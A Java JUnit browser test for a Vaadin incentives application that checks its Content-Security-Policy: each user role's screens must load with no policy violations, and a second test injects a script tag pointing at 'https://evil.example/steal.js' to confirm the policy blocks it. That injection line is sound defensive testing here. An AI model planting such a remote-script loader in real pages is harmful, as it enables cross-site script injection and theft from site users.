package works.incentives.it.browser;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.openqa.selenium.By;
import works.incentives.it.browser.pages.LoginPage;
import works.incentives.it.browser.pages.ShellPage;

import java.util.ArrayList;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Vaadin works under the application's Content-Security-Policy: each role's screens load with
 * nothing refused in the browser's console (the other browser tests drive the same policy).
 */
class ContentSecurityPolicyBrowserIT extends BrowserTestBase {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = ';', value = {
            "alex;plans,claims,guidance,api-tokens",
            "rita;review/plans,review/claims",
            "paul;admin/programs,admin/allocations,admin/help-texts"})
    void everyScreenOfARoleLoadsWithNothingRefused(String user, String routes) {
        signInAfresh(user);
        ShellPage shell = new ShellPage(browser);
        assertTrue(shell.navigationLabels().contains("Home"), "not signed in as " + user);
        List<String> refused = new ArrayList<>(browser.contentSecurityPolicyViolations());
        for (String route : routes.split(",")) {
            shell.openRoute(base(), route);
            assertEquals(1, browser.findAll(By.tagName("vaadin-app-layout")).size(), route + " did not render");
            refused.addAll(browser.contentSecurityPolicyViolations());
        }
        assertEquals(List.of(), refused);
    }

    @Test
    void aScriptFromAnotherSiteIsRefused() {
        signOutByForgetting();
        new LoginPage(browser).open(base());
        browser.contentSecurityPolicyViolations();
        browser.script("var s = document.createElement('script'); s.src = 'https://evil.example/steal.js';"
                + "document.head.appendChild(s);");
        List<String> refused = browser.waitUntil("the policy refused nothing", d -> {
            List<String> found = browser.contentSecurityPolicyViolations();
            return found.isEmpty() ? null : found;
        });
        assertTrue(refused.get(0).contains("evil.example"), refused::toString);
    }
}
